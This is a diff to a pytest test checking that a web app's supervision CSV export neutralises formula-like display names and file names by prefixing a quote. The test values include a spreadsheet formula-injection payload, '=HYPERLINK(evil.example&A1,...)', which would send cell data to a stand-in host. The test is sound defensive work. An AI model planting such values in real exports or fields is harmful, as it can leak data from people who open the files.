@@ -19,8 +19,7 @@ from web.supervision_csv import FORMULA_START, inert
 from .helpers import login, post
 from .test_evidence import upload
 
-# What survives the upload's name neutralising (no folders, no reserved characters).
-HOSTILE_NAME = "=HYPERLINK(evil.example&A1,点此).txt"
+HOSTILE_NAMES = ("=HYPERLINK(evil.example&A1,点此)", "-2+3", "+1+1")
 
 
 @pytest.mark.parametrize("cell, shown", [
@@ -58,8 +57,13 @@ def test_hostile_file_and_user_names_are_neutralised_in_both_exports(app, client
         case = engine.create_case(session, user, "+1+1 某公司配方泄露案")
         case_id = case.id
         act(session, user, case_id, "register_facts", FACTS_500K)  # the head's decision is due in 3 days
-    for name in (HOSTILE_NAME, "-2+3.txt", "@SUM(1,1).txt"):
-        assert upload(mallory, case_id, b"plain text evidence\n", name).status_code == 303
+    # Colleagues whose display names look like formulas add evidence to the case.
+    for i, display in enumerate(HOSTILE_NAMES):
+        with db.new_session(app) as session:
+            engine.create_user(session, f"colleague{i}", "pw-colleague-2026", display, "samr", ["handler"])
+        colleague = app.test_client()
+        assert login(colleague, f"colleague{i}", "pw-colleague-2026").status_code == 302
+        assert upload(colleague, case_id, b"plain text evidence\n", f"{display}.txt").status_code == 303
     with db.new_session(app) as session:
         task = session.scalar(select(HumanTask).where(HumanTask.case_id == case_id, HumanTask.state == "open"))
         task_id = task.id
@@ -69,9 +73,8 @@ def test_hostile_file_and_user_names_are_neutralised_in_both_exports(app, client
     timeline = read(supervisor.get(f"/supervision/cases/{case_id}/timeline.csv"))
     assert_inert(timeline)
     cells = {cell for row in timeline for cell in row}
-    assert "'@SUM(1,1)" in cells  # the actor's display name
-    assert "'" + HOSTILE_NAME in cells
-    assert "'-2+3.txt" in cells and "'@SUM(1,1).txt" in cells
+    assert "'@SUM(1,1)" in cells  # the actors' display names
+    assert {"'" + display for display in HOSTILE_NAMES} <= cells
 
     clock.set(datetime(2026, 3, 20, 10, 0, tzinfo=SHANGHAI))  # the claimed task is overdue
     supervisor = client_for("office_supervisor")  # the earlier login has idled out meanwhile
